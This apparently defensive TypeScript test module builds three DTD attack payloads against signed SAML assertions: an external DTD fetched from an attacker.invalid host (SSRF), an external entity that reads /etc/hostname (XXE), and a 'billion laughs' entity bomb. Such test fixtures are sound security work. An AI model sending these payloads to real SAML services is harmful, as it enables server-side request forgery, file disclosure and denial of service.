/**
 * DTD attacks: a document type declaration before the signed assertion. The signature still
 * verifies for a parser that accepts DTDs, because the entities are referenced only inside
 * ds:KeyInfo (neither digested nor signed). Three shapes: an external DTD subset (the parser
 * fetches a URL: SSRF), an external entity (a local file is read into the document: XXE), and
 * nested entities ("billion laughs": 10^9 expansions from a few hundred bytes).
 * The URLs use the reserved `.invalid` TLD (RFC 2606): nothing resolves them, and no test ever
 * lets a parser try (DTDs are refused before parsing).
 * @see OWASP XML External Entity Prevention Cheat Sheet; CWE-611, CWE-776; research/protocol.md
 *   §1.4 (Windows refuses DTDs: WC_E_DTDPROHIBITED 0xc00cee4f)
 */
import { SimError } from '../../../core/errors.ts';
import type { SamlAttack } from './types.ts';

const DOCTYPE_NAME = 'saml:Assertion';

/** Puts `<ds:KeyName>ref</ds:KeyName>` first in KeyInfo (raw text: an entity reference survives). */
function referenceInKeyInfo(signed: string, reference: string): string {
  const keyInfo = /<((?:[A-Za-z_][\w.-]*:)?)KeyInfo(\s[^>]*)?>/.exec(signed);
  if (!keyInfo) {
    throw new SimError('ERR_USAGE', 'the DTD attacks need a signed assertion with a ds:KeyInfo');
  }
  const at = keyInfo.index + keyInfo[0].length;
  const p = keyInfo[1] ?? '';
  return `${signed.slice(0, at)}<${p}KeyName>${reference}</${p}KeyName>${signed.slice(at)}`;
}

/** Ten nested levels of ten: `&lol9;` expands to 10^9 copies of "lol". */
function billionLaughs(): string {
  const lines = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= 9; i++) {
    lines.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  }
  return lines.join('');
}

export const DTD_ATTACKS: readonly SamlAttack[] = [
  {
    name: 'dtd-external-subset',
    fixture: 'dtd-external-subset',
    summary: 'a DOCTYPE whose external subset is a URL the parser would fetch (SSRF)',
    source: 'OWASP XXE Prevention Cheat Sheet (external DTD); CWE-611',
    apply: ({ signed }) =>
      `<!DOCTYPE ${DOCTYPE_NAME} SYSTEM "http://attacker.invalid/saml.dtd">${signed}`,
  },
  {
    name: 'dtd-external-entity',
    fixture: 'dtd-external-entity',
    summary: 'an external entity naming a local file, referenced in ds:KeyInfo (XXE)',
    source: 'OWASP XXE Prevention Cheat Sheet; CWE-611',
    apply: ({ signed }) =>
      `<!DOCTYPE ${DOCTYPE_NAME} [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>` +
      referenceInKeyInfo(signed, '&xxe;'),
  },
  {
    name: 'dtd-entity-expansion',
    fixture: 'dtd-entity-expansion',
    summary: 'nested entities ("billion laughs") referenced in ds:KeyInfo',
    source: 'CWE-776 (billion laughs); OWASP XXE Prevention Cheat Sheet',
    apply: ({ signed }) =>
      `<!DOCTYPE ${DOCTYPE_NAME} [${billionLaughs()}]>` + referenceInKeyInfo(signed, '&lol9;'),
  },
];
